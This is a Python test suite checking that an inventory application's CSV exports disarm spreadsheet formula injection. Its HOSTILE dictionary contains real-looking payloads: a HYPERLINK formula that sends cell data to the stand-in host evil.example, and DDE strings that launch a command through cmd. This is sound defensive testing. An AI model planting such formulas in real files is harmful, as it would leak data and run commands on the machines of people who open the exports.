"""CSV exports never hand a spreadsheet a formula to run (OWASP "CSV Injection").

An attacker types a formula as an article description, a supplier's name, a
client's city or a family's label; whoever opens an export in a spreadsheet must
see the text, not run it.
"""

from __future__ import annotations

from tests.support import TenantSession, commit_lot

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quote": '"=1+1"',
    "open_quote": '"abc',
}


def _cells(text: str | bytes) -> list[str]:
    body = text if isinstance(text, str) else text.decode("utf-8")
    return [cell for line in body.splitlines()[1:] for cell in line.split("|")]


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would take for a formula: its first non-blank character."""
    stripped = cell.lstrip(" \t\r")
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", '"') or (stripped[:1] == "=" and cell[:1] != "'")


def test_every_export_neutralises_formulas_typed_by_an_attacker(tenant: TenantSession) -> None:
    api = tenant.api
    family = api.post("/api/families", {"label": HOSTILE["plus"]}).body["id"]
    supplier = api.post("/api/suppliers", {"last_name": HOSTILE["hyperlink"], "first_names": HOSTILE["tab"],
                                            "city": HOSTILE["dde"]}).body["id"]
    client = api.post("/api/clients", {"last_name": HOSTILE["at"], "company_name": HOSTILE["cr"],
                                        "comment": HOSTILE["quote"], "city": HOSTILE["open_quote"]}).body["id"]
    lot = commit_lot(api, family_id=family, supplier_id=supplier, prices=["10.00", "20.00"],
                     comment=HOSTILE["minus"])
    refs = [a["ref"] for a in lot["articles"]]
    assert api.patch(f"/api/articles/{refs[0]}", {"description": HOSTILE["dde"], "reason": "test"}).status == 200
    assert api.patch(f"/api/articles/{refs[1]}", {"comment": HOSTILE["hyperlink"]}).status == 200
    sold = api.post("/api/actions/sell", {"refs": [refs[1]], "date": "2020-04-01", "payment_method": "card",
                                          "client_id": client, "prices": {refs[1]: "-12.50"}})
    assert sold.status in (200, 201, 400), sold.body  # a negative price is refused; either way no formula

    exports = {path: api.get(path) for path in (
        "/api/suppliers/export.csv", "/api/clients/export.csv", "/api/families/export.csv",
        "/api/lots/export.csv", "/api/articles/export.csv",
    )}
    for path, reply in exports.items():
        assert reply.status == 200, (path, reply.body)
        cells = _cells(reply.body)
        assert cells, path
        formulas = [c for c in cells if _runs_as_formula(c)]
        assert formulas == [], (path, formulas)

    suppliers = "".join(_cells(exports["/api/suppliers/export.csv"].body))
    assert "'=HYPERLINK(" in suppliers and "'=cmd" in suppliers  # the text is kept, only disarmed
    assert "'+1+1" in "".join(_cells(exports["/api/families/export.csv"].body))
    articles = _cells(exports["/api/articles/export.csv"].body)
    assert "'=cmd/' /C calc'!A0" in articles  # the `|` of the DDE payload cannot split the row either
    assert "10.00" in articles  # plain amounts are left as numbers
    clients = exports["/api/clients/export.csv"].body
    rows = (clients if isinstance(clients, str) else clients.decode()).splitlines()
    assert len({len(row.split("|")) for row in rows}) == 1  # every row has the header's columns
    import csv
    import io

    parsed = list(csv.reader(io.StringIO("\n".join(rows)), delimiter="|"))
    assert len({len(row) for row in parsed}) == 1 and not any(c.startswith("=") for row in parsed for c in row)


def test_plain_negative_numbers_stay_numbers() -> None:
    from chalicelib.domain.csv_export import clean

    assert clean("-12.50") == "-12.50" and clean("-3") == "-3"
    assert clean("-2+3") == "'-2+3" and clean("  =1") == "'  =1" and clean("@x") == "'@x"
    assert clean("Bague en or") == "Bague en or"
    assert clean('"=1+1"') == "'\"=1+1\"" and clean('"abc') == "'\"abc"
